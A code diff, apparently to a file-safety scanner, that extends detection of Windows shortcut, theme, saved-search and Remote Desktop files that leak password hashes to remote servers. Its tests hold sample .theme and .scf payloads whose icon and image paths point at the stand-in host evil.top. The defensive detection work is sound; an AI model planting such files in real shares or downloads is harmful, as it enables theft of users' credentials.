@@ -1,7 +1,7 @@
 //! Files that a program of Windows follows when a reader opens them, or only their folder: shortcuts (`.url`,
-//! `.website`), saved searches and libraries (`.search-ms`, `.library-ms`), settings of Remote Desktop (`.rdp`). Where
-//! they reach a file server, it is sent a password hash, or its program is run; a remote desktop gets the reader's drives.
-//! Their web addresses are read as those of text.
+//! `.website`, `.scf`), saved searches and libraries (`.search-ms`, `.library-ms`), themes (`.theme`), settings of Remote
+//! Desktop (`.rdp`). Where they reach a file server, it is sent a password hash, or its program is run; a remote desktop
+//! gets the reader's drives. Their web addresses are read as those of text.
 
 use super::OpenReading;
 use crate::budget::Budget;
@@ -12,7 +12,8 @@ use crate::outcome::{Place, Verdict};
 use uts58::{Target, reference};
 
 /// Extensions of such files, up to a hyphen.
-const EXTENSIONS: [&str; 5] = ["url", "website", "search", "library", "searchconnector"];
+const EXTENSIONS: [&str; 7] =
+    ["url", "website", "search", "library", "searchconnector", "scf", "theme"];
 const REMOTE_DESKTOP: &str = "rdp";
 
 /// Settings of Remote Desktop that name a server.
@@ -137,6 +138,10 @@ mod tests {
         assert_eq!(worst("x.library-ms", library), Some(Verdict::Unsafe));
         let search = "<persistedQuery><scope><include path=\"\\\\evil.top\\share\"/></scope>";
         assert_eq!(worst("x.search-ms", search), Some(Verdict::Unsafe));
+        let theme = "[Theme]\r\nBrandImage=\\\\evil.top\\s\\x.png\r\n";
+        assert_eq!(worst("x.theme", theme), Some(Verdict::Unsafe));
+        let scf = "[Shell]\r\nCommand=2\r\nIconFile=\\\\evil.top\\s\\x.ico\r\n";
+        assert_eq!(worst("x.scf", scf), Some(Verdict::Unsafe));
         for fine in [
             "URL=https://fine.com/a?b=c\r\nIconFile=C:\\Windows\\system32\\SHELL32.dll\r\nIconIndex=1",
             "URL=file:///C:/a/b.pdf",
